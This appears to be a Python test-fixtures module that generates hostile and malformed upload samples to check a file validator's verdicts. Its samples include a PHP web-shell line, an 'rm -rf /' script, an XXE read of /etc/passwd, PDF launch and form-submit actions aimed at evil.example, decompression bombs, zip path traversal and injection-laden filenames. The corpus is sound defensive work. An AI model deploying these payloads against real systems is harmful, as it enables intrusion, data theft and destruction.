"""Files as an attacker, a bad line or an odd telephone sends them, made here byte by byte.

Each `Sample` says what must become of it: "picture" or "document" (kept, and clean), or the reason why it is
refused (see files.REASONS; "empty" and "large" have sentences of their own).
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pypdf
from PIL import Image, ImageDraw, PngImagePlugin

from tests.factories.verification import PDF, pdf, picture

SCRIPT = b"<script>alert(document.domain)</script>"
SIGNS = (b"<script", b"JavaScript", b"EmbeddedFile", b"/Launch", b"/OpenAction", b"PK\x03\x04", b"Exif", b"EICAR")
"""What must not be found in anything that is kept."""
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Sample:
    """A file, the name it comes with, and what must become of it."""

    title: str
    data: bytes
    becomes: str
    name: str = "licence.pdf"


# --- pieces -----------------------------------------------------------------------------------------------


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(data), extra, data)


def document(*objects: bytes, catalog: bytes = b"", page: bytes = b"", trailer: bytes = b"") -> bytes:
    """One page; further objects from number 5 on. Object 4 is what stands on the page."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>/Contents 4 0 R%b>>" % page,
        stream(b"1 0 0 RG 10 10 400 400 re S"),
        *objects,
        trailer=trailer,
    )


def _acts(action: bytes) -> bytes:
    return document(action, catalog=b"/OpenAction 5 0 R")


def _annotated(annotation: bytes, *more: bytes) -> bytes:
    return document(b"<</Type/Annot/Rect[0 0 99 99]%b>>" % annotation, *more, page=b"/Annots[5 0 R]")


def _locked(password: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(PDF))
    writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")
    return _written(writer)


def _written(writer: pypdf.PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _with_attachment() -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(PDF))
    writer.add_attachment("virus.exe", b"MZ\x90")
    return _written(writer)


def _with_script() -> bytes:
    return document(
        b"<</Names[(a) 6 0 R]>>", b"<</S/JavaScript/JS(app.alert\\(1\\))>>", catalog=b"/Names<</JavaScript 5 0 R>>"
    )


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count), *[page] * count)


def _many_objects(count: int) -> bytes:
    row = b" ".join(b"%d 0 R" % (number + 6) for number in range(count))
    return document(b"[%b]" % row, *[b"<</A 1>>"] * count, catalog=b"/Lots 5 0 R")


def _chained(count: int) -> bytes:
    """Each object leads to the next."""
    return document(*(b"<</Next %d 0 R>>" % (number + 6) for number in range(count)), b"null", catalog=b"/Lots 5 0 R")


@cache
def _bomb(megabytes: int) -> bytes:
    """So many megabytes of zeros, packed to a thousandth."""
    pack, zeros = zlib.compressobj(9), bytes(1_000_000)
    return b"".join(pack.compress(zeros) for _each in range(megabytes)) + pack.flush()


def _drawn(data: bytes, extra: bytes) -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</I 5 0 R>>>>/Contents 4 0 R>>",
        stream(b"595 0 0 842 0 0 cm /I Do"),
        stream(data, extra),
    )


def _png(width: int, height: int, pixels: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """A grey PNG whose header may say what it likes."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = ((b"IHDR", head), *chunks, (b"IDAT", pixels), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    )


def photograph(kind: str = "JPEG", mode: str = "RGB", size: tuple[int, int] = (320, 200), **options: object) -> bytes:
    """Something to see: black on the left, a colour on the right."""
    sheet = Image.new("RGB", size, "white")
    ImageDraw.Draw(sheet).rectangle((0, 0, size[0] // 2, size[1]), fill="black")
    out = io.BytesIO()
    sheet.convert(mode).save(out, kind, **options)
    return out.getvalue()


def _with_place() -> bytes:
    notes = Image.Exif()
    notes[0x010E] = "Exif of the owner"
    notes[0x0112] = 6
    notes.get_ifd(0x8825)[2] = (23.0, 48.0, 37.0)
    return photograph(exif=notes)


def _sixteen_bits() -> bytes:
    out = io.BytesIO()
    Image.frombytes("I;16", (2, 2), struct.pack("<4H", 0, 20_000, 40_000, 65_535)).resize((64, 64)).save(out, "PNG")
    return out.getvalue()


def _moving(kind: str) -> bytes:
    frames = [Image.new("RGB", (80, 60), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


def _with_text() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", SCRIPT.decode(), zip=False)
    notes.add_itxt("XML:com.adobe.xmp", SCRIPT.decode())
    return photograph("PNG", pnginfo=notes)


def _archive(size: int = 10) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.html", SCRIPT + bytes(size))
    return out.getvalue()


def _in_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(20):
            archive.writestr(f"{number}.zip", _archive(1_000_000))
    return out.getvalue()


def _noise(start: bytes) -> bytes:
    return start + random.Random(start).randbytes(4000)


def _svg(inside: str) -> bytes:
    return f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()


XXE = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'

# --- the corpus -------------------------------------------------------------------------------------------

_JPEG, _PNG = photograph(), photograph("PNG")

_FILES: dict[str, tuple[Callable[[], bytes] | bytes, str]] = {
    # two in one
    "GIF with a script": (b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//;", "unknown"),
    "PNG, then HTML": (_PNG + b"<html>" + SCRIPT, "picture"),
    "PNG with a script in its texts": (_with_text, "picture"),
    "JPEG, then ZIP": (lambda: _JPEG + _archive(), "picture"),
    "JPEG with a script as comment": (lambda: photograph(comment=SCRIPT), "picture"),
    "JPEG, then PHP": (_JPEG + b"<?php system($_GET['c']); ?>", "picture"),
    "JPEG, then a virus test": (_JPEG + EICAR, "picture"),
    "HTML, then PDF": (b"<html>" + SCRIPT + PDF, "unknown"),
    "PDF, then HTML": (PDF + b"<html>" + SCRIPT, "document"),
    "PDF, then HTML and an end": (PDF + b"<html>" + SCRIPT + b"%%EOF\n", "damaged"),
    "PDF with a comment of HTML": (PDF.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + SCRIPT + b"\n"), "document"),
    "PDF, then ZIP": (lambda: PDF + _archive(), "document"),
    "PDF, then a JPEG": (PDF + _JPEG, "damaged"),
    "ZIP, then PDF": (lambda: _archive() + PDF, "unknown"),
    # PDFs that do something
    "PDF: script in the names": (_with_script, "script"),
    "PDF: script on opening": (lambda: _acts(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), "script"),
    "PDF: script whose kind stands elsewhere": (
        lambda: document(
            b"<</S 6 0 R/JS 7 0 R>>", b"/JavaScript", stream(b"app.alert(1)"), catalog=b"/OpenAction 5 0 R"
        ),
        "script",
    ),
    "PDF: script in disguise": (lambda: _acts(b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"), "script"),
    "PDF: script of a page": (lambda: document(b"<</S/JavaScript/JS(1)>>", page=b"/AA<</O 5 0 R>>"), "script"),
    "PDF: script of a link": (lambda: _annotated(b"/Subtype/Link/A<</S/JavaScript/JS(1)>>"), "script"),
    "PDF: script after an action": (
        lambda: _acts(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(1)>>>>"),
        "script",
    ),
    "PDF: starts a program": (lambda: _acts(b"<</S/Launch/F(cmd.exe)>>"), "action"),
    "PDF: starts a program from a mark": (lambda: _annotated(b"/Subtype/Link/A<</S/Launch/F(x.exe)>>"), "action"),
    "PDF: sends a form": (lambda: _acts(b"<</S/SubmitForm/F(https://evil.example)>>"), "action"),
    "PDF: imports data": (lambda: _acts(b"<</S/ImportData/F(c:/x.fdf)>>"), "action"),
    "PDF: opens another": (lambda: _acts(b"<</S/GoToR/F(//evil.example/x.pdf)/D[0/Fit]>>"), "action"),
    "PDF: opens one inside": (lambda: _acts(b"<</S/GoToE/D[0/Fit]/T<</R/C/N(x)>>>>"), "action"),
    "PDF: link with a script": (
        lambda: _annotated(b"/Subtype/Link/A<</S/URI/URI(java\\nscript:alert\\(1\\))>>"),
        "action",
    ),
    "PDF: link to a file": (lambda: _annotated(b"/Subtype/Link/A<</S/URI/URI(file:///etc/passwd)>>"), "action"),
    "PDF: link to a page": (lambda: _annotated(b"/Subtype/Link/A<</S/URI/URI(https://nbr.gov.bd/a:b)>>"), "document"),
    "PDF: opens at its first page": (lambda: document(catalog=b"/OpenAction[3 0 R/Fit]"), "document"),
    "PDF: attachment": (_with_attachment, "attachments"),
    "PDF: attachment as a mark": (
        lambda: _annotated(b"/Subtype/FileAttachment/FS<</F(x.exe)/EF<</F 6 0 R>>>>", stream(b"MZ")),
        "attachments",
    ),
    "PDF: associated file": (
        lambda: document(b"<</Type/Filespec/F(x)/EF<</F 6 0 R>>>>", stream(b"MZ"), page=b"/AF[5 0 R]"),
        "attachments",
    ),
    "PDF: a portfolio": (lambda: document(catalog=b"/Collection<</View/D>>"), "attachments"),
    "PDF: XFA form": (lambda: document(stream(b"<xdp/>"), catalog=b"/AcroForm<</Fields[]/XFA 5 0 R>>"), "form"),
    "PDF: filled in form": (
        lambda: document(
            b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[9 9 99 99]/AP<</N 6 0 R>>>>",
            stream(b"0 0 90 90 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 90 90]"),
            catalog=b"/AcroForm<</Fields[5 0 R]>>",
            page=b"/Annots[5 0 R]",
        ),
        "document",
    ),
    "PDF: Flash": (lambda: _annotated(b"/Subtype/RichMedia/RichMediaContent<<>>"), "media"),
    "PDF: 3D": (lambda: _annotated(b"/Subtype/3D"), "media"),
    "PDF: film": (lambda: _annotated(b"/Subtype/Screen/A<</S/Rendition/OP 0>>"), "media"),
    "PDF: sound": (lambda: _annotated(b"/Subtype/Sound"), "media"),
    # PDFs that cannot be read, or not in time
    "PDF: locked": (lambda: _locked("secret"), "locked"),
    "PDF: locked without a password": (lambda: _locked(""), "locked"),
    "PDF: locked in an unknown way": (lambda: document(b"<</Filter/Own>>", trailer=b"/Encrypt 5 0 R"), "locked"),
    "PDF: only a head": (b"%PDF-1.7", "damaged"),
    "PDF: cut off": (lambda: PDF[: len(PDF) // 2], "damaged"),
    "PDF: noise": (lambda: _noise(b"%PDF-1.7\n") + b"%%EOF", "damaged"),
    "PDF: no page": (lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"), "damaged"),
    "PDF: 40 pages": (lambda: _pages(40), "document"),
    "PDF: 41 pages": (lambda: _pages(41), "pages"),
    "PDF: 5,000 pages": (lambda: _pages(5000), "damaged heavy pages"),
    "PDF: pages in a circle": (
        lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"),
        "damaged heavy pages",
    ),
    "PDF: says it has a billion pages": (lambda: PDF.replace(b"/Count 1>>", b"/Count 999999999>>"), "document damaged"),
    "PDF: 10,000 objects": (lambda: _many_objects(10_000), "document heavy"),
    "PDF: 60,000 objects": (lambda: _many_objects(60_000), "heavy"),
    "PDF: 15,000 in a chain": (lambda: _chained(15_000), "document heavy"),
    "PDF: deep nesting": (lambda: document(b"[" * 50_000 + b"]" * 50_000, catalog=b"/Lots 5 0 R"), "damaged heavy"),
    "PDF: refers to itself": (lambda: document(b"5 0 R", catalog=b"/Lots 5 0 R"), "document damaged"),
    "PDF: 300 MB of zeros on its page": (
        lambda: _drawn(b"", b"").replace(
            stream(b"595 0 0 842 0 0 cm /I Do"), stream(_bomb(300), b"/Filter/FlateDecode")
        ),
        "damaged heavy",
    ),
    "PDF: a bomb in a bomb": (
        lambda: document(
            stream(zlib.compress(_bomb(300), 9), b"/Filter[/FlateDecode/FlateDecode]"), catalog=b"/Lots 5 0 R"
        ),
        "damaged heavy",
    ),
    "PDF: an image that unpacks to 300 MB": (
        lambda: _drawn(
            _bomb(300),
            b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode",
        ),
        "heavy",
    ),
    "PDF: an image of 40 billion pixels": (
        lambda: _drawn(
            _bomb(1),
            b"/Type/XObject/Subtype/Image/Width 200000/Height 200000/BitsPerComponent 1/ColorSpace/DeviceGray"
            b"/Filter/FlateDecode",
        ),
        "heavy",
    ),
    "PDF: a page as large as a country": (lambda: PDF.replace(b"[0 0 595 842]", b"[0 0 9e9 1]"), "document damaged"),
    # pictures
    "JPEG of a camera that knows the place": (_with_place, "picture"),
    "JPEG in the colours of a press": (lambda: photograph(mode="CMYK"), "picture"),
    "JPEG cut off": (_JPEG[: len(_JPEG) // 2], "broken"),
    "JPEG: only a head": (b"\xff\xd8\xff\xe0", "unknown broken"),
    "JPEG: noise": (lambda: _noise(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"), "unknown broken"),
    "PNG with a palette": (lambda: photograph("PNG", "P"), "picture"),
    "PNG in black and white": (lambda: photograph("PNG", "1"), "picture"),
    "PNG with 16 bits a pixel": (_sixteen_bits, "picture"),
    "PNG that one sees through": (lambda: photograph("PNG", "RGBA"), "picture"),
    "PNG that moves": (lambda: _moving("PNG"), "picture"),
    "PNG of 30,000 × 30,000": (lambda: _png(30_000, 30_000, _bomb(1)), "pixels"),
    "PNG of 4 billion pixels a side": (lambda: _png(2**31 - 1, 2**31 - 1, _bomb(1)), "pixels unknown"),
    "PNG with more pixels than it says": (lambda: _png(10, 10, _bomb(300)), "picture broken"),
    "PNG with a text that unpacks to 300 MB": (
        lambda: _png(10, 10, _bomb(1), (b"zTXt", b"a\0\0" + _bomb(300))),
        "picture broken unknown",
    ),
    "PNG with wrong sums": (lambda: _PNG.replace(_PNG[29:33], b"\0\0\0\0", 1), "broken unknown"),
    "PNG without an end": (_PNG[:-40], "picture broken"),
    "WebP": (lambda: photograph("WEBP"), "picture"),
    "WebP that moves": (lambda: _moving("WEBP"), "picture"),
    "WebP broken": (lambda: _noise(b"RIFF\xa0\x0f\0\0WEBPVP8 "), "unknown broken"),
    "GIF": (lambda: picture("GIF"), "unknown"),
    "GIF that moves": (lambda: _moving("GIF"), "unknown"),
    "BMP": (lambda: picture("BMP"), "unknown"),
    "TIFF": (lambda: picture("TIFF"), "unknown"),
    "ICO": (lambda: picture("ICO"), "unknown"),
    "HEIC": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(500), "unknown"),
    "AVIF": (b"\0\0\0\x20ftypavif\0\0\0\0avifmif1" + bytes(500), "unknown"),
    "PostScript": (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n", "unknown"),
    # neither
    "SVG with a script": (_svg("<script>alert(1)</script>"), "unknown"),
    "SVG that reads files": (XXE, "unknown"),
    "SVG that uses others": (_svg('<use href="https://evil.example/x.svg#a"/>'), "unknown"),
    "HTML": (b"<!DOCTYPE html><title>x</title>" + SCRIPT, "unknown"),
    "XML": (b"<?xml version='1.0'?><a/>", "unknown"),
    "a script": (b"#!/bin/sh\nrm -rf /\n", "unknown"),
    "a program": (b"MZ\x90\0" + bytes(2000), "unknown"),
    "a program of Linux": (b"\x7fELF\x02\x01\x01" + bytes(2000), "unknown"),
    "ZIP": (_archive, "unknown"),
    "ZIP of zeros": (lambda: _archive(100_000_000), "unknown"),
    "ZIP of ZIPs": (_in_archive, "unknown"),
    "MP4": (b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(500), "unknown"),
    "the virus test": (EICAR, "unknown"),
    "text": (b"trade licence", "unknown"),
    "nothing": (b"", "empty"),
    "one byte": (b"\0", "unknown"),
    "zeros": (bytes(100_000), "unknown"),
    "noise": (lambda: _noise(b""), "unknown"),
    "more than 10 MB": (lambda: PDF + bytes(10 * 1024 * 1024), "large"),
}

_NAMES = (
    *("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/cron.d/evil", ".htaccess", ".", "..", "CON", "nul.pdf"),
    *("licence.pdf.html", "licence.php", "a" * 300 + ".pdf", "licence\u202efdp.exe", "a\x00.pdf", "a\r\nX-Evil: 1.pdf"),
    *(
        'a"; filename="b.html',
        "<img src=x onerror=alert(1)>.jpg",
        "লাইসেন্স ক্ষুদ্র.pdf",
        "%2e%2e%2fx",
        "licence.pdf ",
        "~root",
    ),
)


TITLES = [*_FILES, *(f"named {name[:30]!r}" for name in _NAMES)]


def sample(title: str) -> Sample:
    """The sample of that title; made only now, for some are large."""
    if title in _FILES:
        data, becomes = _FILES[title]
        return Sample(title, data() if callable(data) else data, becomes)
    name = next(name for name in _NAMES if title == f"named {name[:30]!r}")
    return Sample(title, _JPEG, "picture", name)
